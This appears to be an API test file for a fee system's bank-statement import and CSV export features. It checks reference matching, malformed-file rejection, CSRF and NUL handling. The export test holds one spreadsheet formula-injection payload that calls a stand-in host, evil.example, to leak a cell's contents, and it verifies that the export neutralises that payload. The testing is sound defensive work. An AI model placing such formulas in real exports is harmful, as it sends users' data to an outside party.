import { parse } from 'csv-parse/sync';
import type { Invoice } from '../../src/fees/invoice.entity';
import type { User } from '../../src/users/user.entity';
import { count } from '../factories/branches.factory';
import { makeInvoice, makeSecretary } from '../factories/database.factory';
import { signInAdmin, type SignedIn } from '../utils/auth';
import { createTestApp, TestApp } from '../utils/test-app';

describe('bank statements and exports (API)', () => {
  let t: TestApp;
  let sec: User;
  let admin: SignedIn;
  const today = new Date().toISOString().slice(0, 10);
  const ukToday = today.split('-').reverse().join('/');

  beforeAll(async () => {
    t = await createTestApp();
    sec = await makeSecretary(t);
    admin = await signInAdmin(t);
  });
  afterAll(() => t?.close());

  /** A new branch of the secretary's, its affiliation approved by the admin: its invoice. */
  const invoiceFor = (): Promise<Invoice> => makeInvoice(t, { secretary: sec, admin: admin.user });

  const mistype = (ref: string): string => {
    // Swap the two last digits of the number (they differ for the references used here, or change one).
    const chars = ref.split('');
    const i = ref.length - 3;
    if (chars[i] !== chars[i - 1]) [chars[i], chars[i - 1]] = [chars[i - 1]!, chars[i]!];
    else chars[i] = chars[i] === '9' ? '8' : '9';
    return chars.join('');
  };

  it('matches lines by reference, leaves a mistyped one unmatched, and records only confirmed lines, once', async () => {
    const a = await invoiceFor();
    const b = await invoiceFor();
    const csv = [
      'Date,Description,Amount,Transaction ID',
      `${ukToday},"BGC ${a.reference} UNISON",25.00,TX-1`,
      `${ukToday},"FP ${mistype(b.reference)} TYPO",25.00,TX-2`,
      `${ukToday},"FP ${b.reference.replace(/-/g, ' ')}",10.00,TX-3`,
      `${ukToday},BANK CHARGE,-3.00,TX-4`,
      `${ukToday},"SOMETHING ELSE",5.00,TX-5`,
    ].join('\r\n');
    const preview = await admin.agent.post('/api/admin/statements/preview').set('X-CSRF-Token', admin.csrf).send({ csv });
    expect(preview.status).toBe(200);
    expect(preview.body.rows.map((r: { line: number; status: string }) => [r.line, r.status])).toEqual([
      [2, 'matched'],
      [3, 'unmatched'],
      [4, 'matched'],
      [5, 'not_a_payment'],
      [6, 'unmatched'],
    ]);
    expect(preview.body.rows[2]).toMatchObject({ reference: b.reference, amountPence: 1000 });
    expect(await count(t, 'payments')).toBe(0);

    const confirm = await admin.agent.post('/api/admin/statements/import').set('X-CSRF-Token', admin.csrf).send({ csv, lines: [2, 3, 5] });
    expect(confirm.status).toBe(200);
    expect(confirm.body).toEqual({ recorded: 1, skipped: 2 });
    expect(await count(t, 'payments')).toBe(1);
    expect(await count(t, `payments WHERE invoice_id = $1 AND amount_pence = 2500 AND source = 'statement' AND bank_reference = 'TX-1'`, [a.id])).toBe(1);
    expect(await count(t, `audit_events WHERE action = 'statement.imported'`)).toBe(1);

    // The same file again: line 2 is already recorded; confirming it stores nothing new.
    const again = await admin.agent.post('/api/admin/statements/preview').set('X-CSRF-Token', admin.csrf).send({ csv });
    expect(again.body.rows[0].status).toBe('already_recorded');
    const twice = await admin.agent.post('/api/admin/statements/import').set('X-CSRF-Token', admin.csrf).send({ csv, lines: [2, 4] });
    expect(twice.body).toEqual({ recorded: 1, skipped: 1 });
    expect(await count(t, 'payments')).toBe(2);
  });

  it('refuses a malformed file with its line number and stores nothing from it', async () => {
    const a = await invoiceFor();
    const before = await count(t, 'payments');
    const csv = ['Date,Description,Amount', `${ukToday},"BGC ${a.reference}",25.00`, `${ukToday},"BROKEN",25.00,extra`].join('\n');
    for (const path of ['/api/admin/statements/preview', '/api/admin/statements/import']) {
      const res = await admin.agent.post(path).set('X-CSRF-Token', admin.csrf).send(path.endsWith('import') ? { csv, lines: [2] } : { csv });
      expect(res.status).toBe(400);
      expect(res.body.message).toMatch(/Line 3/);
      expect(res.body.errors.csv[0]).toMatch(/^Line 3: .*number of columns/);
    }
    const badDate = await admin.agent.post('/api/admin/statements/preview').set('X-CSRF-Token', admin.csrf).send({ csv: 'Date,Description,Amount\n32/01/2026,X,1.00\n' });
    expect(badDate.body.errors.csv[0]).toMatch(/^Line 2: "32\/01\/2026" is not a date/);
    expect(await count(t, 'payments')).toBe(before);
  });

  it('accepts the bank file as a multipart upload, with the CSRF token in the header', async () => {
    const a = await invoiceFor();
    const file = Buffer.from(`Date,Details,Paid in,Paid out\r\n${today},PSOOL ${a.reference.slice(6)},"£25.00",\r\n`, 'utf8');
    const res = await admin.agent.post('/api/admin/statements/preview').set('X-CSRF-Token', admin.csrf).attach('file', file, 'statement.csv');
    expect(res.status).toBe(200);
    expect(res.body.rows[0]).toMatchObject({ status: 'matched', reference: a.reference, amountPence: 2500 });
    const noToken = await admin.agent.post('/api/admin/statements/preview').attach('file', file, 'statement.csv');
    expect(noToken.status).toBe(403);
    const imported = await admin.agent.post('/api/admin/statements/import').set('X-CSRF-Token', admin.csrf).field('lines', '2').attach('file', file, 'statement.csv');
    expect(imported.body).toEqual({ recorded: 1, skipped: 0 });
  });

  it('refuses a NUL in an uploaded file (which the body guard never sees) with a field error, storing nothing', async () => {
    const a = await invoiceFor();
    const before = await count(t, 'payments');
    const file = Buffer.from(`Date,Details,Paid in,Transaction ID\r\n${today},PSOOL ${a.reference.slice(6)},"£25.00",TX\u0000-9\r\n`, 'utf8');
    const res = await admin.agent.post('/api/admin/statements/import').set('X-CSRF-Token', admin.csrf).field('lines', '2').attach('file', file, 'statement.csv');
    expect(res.status).toBe(400);
    expect(res.body.errors.file[0]).toMatch(/U\+0000/);
    expect(await count(t, 'payments')).toBe(before);
  });

  it('exports payments and invoices as RFC 4180 CSV with formula cells made inert', async () => {
    const a = await invoiceFor();
    const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    await admin.agent
      .post('/api/admin/payments')
      .set('X-CSRF-Token', admin.csrf)
      .send({ reference: a.reference, amountPence: 1234, receivedOn: today, method: 'cheque', bankReference: hostile, note: 'line one\nline "two", with comma' })
      .expect(201);
    const res = await admin.agent.get('/api/admin/exports/payments.csv').expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="payments.csv"/);
    const text = res.text;
    expect(text).toContain('\r\n');
    const rows = parse(text, { relax_column_count: false }) as string[][];
    expect(rows[0]).toEqual(['Payment id', 'Reference', 'Branch', 'Amount', 'Received on', 'Method', 'Bank reference', 'Reverses', 'Source', 'Note', 'Recorded at']);
    const row = rows.find((r) => r[1] === a.reference)!;
    expect(row).toHaveLength(rows[0]!.length);
    expect(row[6]).toBe(`'${hostile}`);
    expect(row[3]).toBe('12.34');
    expect(row[9]).toBe('line one\nline "two", with comma');
    expect(rows.every((r) => r.every((cell) => !/^[=+\-@\t\r]/.test(cell)))).toBe(true);
    expect(await count(t, `audit_events WHERE action = 'export.payments'`)).toBe(1);

    const invoices = await admin.agent.get('/api/admin/exports/invoices.csv').expect(200);
    expect(invoices.headers['content-disposition']).toMatch(/^attachment; filename="invoices.csv"/);
    const irows = parse(invoices.text) as string[][];
    expect(irows.find((r) => r[0] === a.reference)).toEqual(expect.arrayContaining(['25.00', '12.34', '12.66']));
  });

  it('shows the treasurer’s figures', async () => {
    const res = await admin.agent.get('/api/admin/fees/dashboard').expect(200);
    expect(res.body).toMatchObject({ receivedThisYearPence: expect.any(Number), outstandingPence: expect.any(Number), byBand: expect.any(Array) });
    expect(res.body.receivedThisYearPence).toBe((await t.dataSource.query('SELECT sum(amount_pence)::int AS s FROM payments'))[0].s);
  });
});
